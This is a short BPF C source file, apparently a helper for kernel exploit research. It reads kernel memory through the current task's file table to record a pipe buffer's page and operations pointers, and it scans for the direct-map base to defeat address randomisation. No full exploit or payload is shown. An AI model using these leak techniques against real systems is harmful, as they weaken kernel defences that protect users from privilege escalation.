// SPDX-License-Identifier: GPL-2.0-only
/*
 * Run by findings.py alone, before anything is attached, on pipes of its own: tells the addresses
 * that no file shows.
 */
#if FINDINGS
struct learned {
	u64 page;
	u64 operations;
	u64 ring; /* the array of slots, which lies in the direct map */
};
BPF_ARRAY(learned, struct learned, NR_CLASSES);

/* Arguments: the descriptor of a pipe, and which class of buffer its first slot holds. */
int learn_buffer(u64 *ctx)
{
	u64 fd = tracepoint_arg(ctx, 0), table, pipe, slot;
	u32 class = tracepoint_arg(ctx, 1);
	struct learned found = {};

	table = slow64(slow64(bpf_get_current_task() + TASK_FILES) + FILES_FDT);
	pipe = slow64(slow64(slow64(table + FDT_FD) + fd * 8) + FILE_PRIVATE);
	slot = slow64(pipe + PIPE_BUFS);
	found.page = slow64(slot + BUF_PAGE);
	found.operations = slow64(slot + BUF_OPS);
	found.ring = slot;
	learned.update(&class, &found);
	return 0;
}

#if CONTENTS
/*
 * Looks for the direct map: for a page whose content is known. Its start is the address of a PUD,
 * which maps 1 GiB (kernel_randomize_memory(), arch/x86/mm/kaslr.c).
 *
 * Arguments: the frame of that page, its first two words, and the highest place to look at.
 */
#define PUD_SHIFT 30
#define PLACES	  512
int learn_direct_map(u64 *ctx)
{
	u64 offset = tracepoint_arg(ctx, 0) << 12, base = tracepoint_arg(ctx, 3);
	struct direct_map *map;
	u32 zero = 0, i;

	map = direct_map.lookup(&zero);
	if (!map)
		return 0;
#pragma clang loop unroll(disable)
	for (i = 0; i < PLACES; i++) {
		if (slow64(base + offset) == tracepoint_arg(ctx, 1) &&
		    slow64(base + offset + 8) == tracepoint_arg(ctx, 2)) {
			map->base = base;
			return 0;
		}
		base -= 1ULL << PUD_SHIFT;
	}
	return 0;
}
#endif
#endif
